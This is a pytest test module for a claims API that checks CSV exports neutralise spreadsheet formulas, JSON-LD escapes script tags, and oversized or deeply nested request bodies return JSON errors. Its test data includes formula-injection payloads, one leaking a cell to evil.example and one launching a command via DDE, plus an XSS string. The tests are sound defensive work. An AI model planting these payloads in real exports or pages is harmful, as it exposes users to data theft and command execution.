"""Exports safe to open and embed; request bodies that are too big or too deep are JSON errors."""

import csv
import io
import json

import pytest

from claims.api.parsers import json_too_deep
from claims.api.renderers import csv_safe
from tests.factories import ClaimFactory, OutcomeFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_could_start_a_formula_gets_a_leading_quote(cell):
    assert csv_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Plain text", "2026-12-31", "", " =not at the start", 0.675, 12, None])
def test_other_cells_are_left_alone(cell):
    assert csv_safe(cell) == cell


def test_the_csv_export_neutralises_formulas_in_every_text_column(api, viewer):
    ClaimFactory(statement=FORMULAS[0], quote="@SUM(A1:A9)", condition="-1", resolution_criteria="+1")
    response = api(viewer).get("/api/claims/export/")

    (row,) = csv.DictReader(io.StringIO(response.getvalue().decode()))
    assert row["statement"] == "'" + FORMULAS[0]
    assert (row["quote"], row["condition"], row["resolution_criteria"]) == ("'@SUM(A1:A9)", "'-1", "'+1")
    assert row["probability"] == "0.675"  # numbers stay numbers
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


def test_json_ld_escapes_angle_brackets_and_ampersands(api, viewer):
    claim = OutcomeFactory(
        claim__statement="</script><script>alert(1)</script> & more", rationale="a < b > c"
    ).claim

    for url in (f"/api/claims/{claim.pk}/claim-review/", "/api/claims/claim-reviews/"):
        response = api(viewer).get(url)
        assert response["Content-Type"] == "application/ld+json"
        raw = response.getvalue().decode()
        assert not {"<", ">", "&"} & set(raw)
        assert "\\u003C/script\\u003E" in raw and "\\u0026 more" in raw
    doc = json.loads(raw)["dataFeedElement"][0]  # still the same JSON value
    assert doc["claimReviewed"] == "</script><script>alert(1)</script> & more"
    assert doc["reviewBody"] == "a < b > c"


def test_a_body_over_the_size_limit_is_a_json_413(api, editor, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 10_000
    body = json.dumps({"title": "Big", "body": "a" * 20_000})

    response = api(editor).post("/api/articles/", body, content_type="application/json")

    assert response.status_code == 413
    assert response.json() == {"detail": "Request body too large: the limit is 10,000 bytes."}


def test_50000_nested_brackets_are_a_400_with_a_message_not_a_500(api, editor):
    response = api(editor).post(
        "/api/articles/", "[" * 50_000 + "]" * 50_000, content_type="application/json"
    )

    assert response.status_code == 400
    assert response.json() == {"detail": "JSON parse error - nested deeper than 32 levels."}


def test_nesting_is_counted_outside_strings_only():
    assert not json_too_deep(b'{"a": [[1, {"b": "[[[[[[[[[[ \\" {{{{{{"}]]}', 5)
    assert not json_too_deep(b"[" * 5 + b"]" * 5, 5)
    assert json_too_deep(b"[" * 6 + b"]" * 6, 5)
    assert json_too_deep(b'{"a":' * 6 + b"1" + b"}" * 6, 5)


def test_ordinary_json_bodies_still_parse(api, editor):
    response = api(editor).post("/api/publications/", {"name": "Brackets [in] {names}"}, format="json")
    assert response.status_code == 201
